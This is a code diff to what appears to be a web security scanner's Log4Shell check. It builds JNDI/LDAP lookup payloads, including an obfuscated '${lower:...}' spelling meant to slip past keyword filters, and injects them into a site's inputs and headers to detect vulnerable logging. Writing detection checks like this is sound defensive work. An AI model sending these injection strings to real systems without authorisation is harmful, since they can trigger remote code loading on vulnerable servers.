@@ -24,6 +24,8 @@ import { inputsToProbe, loginNames } from './probe-inputs.ts';
 type LookedUpName = Called<CallbackWay> & { detail: string };
 
 const maxInputs = 300;
+/** Of a site with more of them each is sent both spellings in one value. */
+const manyInputs = 60;
 /** One filter logs the headers of all pages. */
 const maxPages = 3;
 
@@ -41,12 +43,16 @@ const loggedHeaders = [
   'Accept-Language',
 ] as const;
 
+type WriteLookup = (address: string, service?: string) => string;
+
 /** A lookup of a name in a directory, plain and in a spelling that a look for the word misses. Source: Apache Log4j 2 "Lookups", CVE-2021-44228. */
-const spellings: readonly ((address: string, service?: string) => string)[] = [
+const spellings: readonly WriteLookup[] = [
   (address, service = 'jndi') => `\${${service}:ldap://${address}}`,
   (address, service = 'jndi') =>
     `\${\${lower:${service.slice(0, 1)}}${service.slice(1, 3)}\${lower:${service.slice(3)}}:\${lower:l}d\${lower:a}p://${address}}`,
 ];
+
+const together: WriteLookup = (address, service) => spellings.map((write) => write(address, service)).join(' ');
 
 /** What is logged is looked up in the directory that it names. Source: CWE-917, CVE-2021-44228. */
 export const jndi = defineCheck<Looked<LookedUpName>>({
@@ -71,7 +77,8 @@ export const jndi = defineCheck<Looked<LookedUpName>>({
       return notApplicable('The site is made with another language than Java.');
     const inHeaders = await lookAtHeaders(context, callbacks.host);
     const inputs = [...loginNames(surface), ...inputsToProbe(surface)];
-    const ways = (input: OpenedInput) => waysFor(input, callbacks.host).slice(0, isJava ? spellings.length : 1);
+    const written = !isJava ? spellings.slice(0, 1) : inputs.length > manyInputs ? [together] : spellings;
+    const ways = (input: OpenedInput) => waysFor(input, callbacks.host, written);
     const sampled = await lookAtEach<LookedUpName | Awaited<CallbackWay>>(
       context,
       inputs,
@@ -113,9 +120,9 @@ export const jndi = defineCheck<Looked<LookedUpName>>({
 
 const detail = 'The server asked a directory of the audit for the name in the value.';
 
-function waysFor(input: OpenedInput, host: string): CallbackWay[] {
+function waysFor(input: OpenedInput, host: string, written: readonly WriteLookup[] = spellings): CallbackWay[] {
   const spot = callbackSpot(host, '‹callback›');
-  return spellings.map((write) => ({
+  return written.map((write) => ({
     action: inputAction(input, write(spot)),
     inert: inputAction(input, write(spot, 'jndq')),
   }));
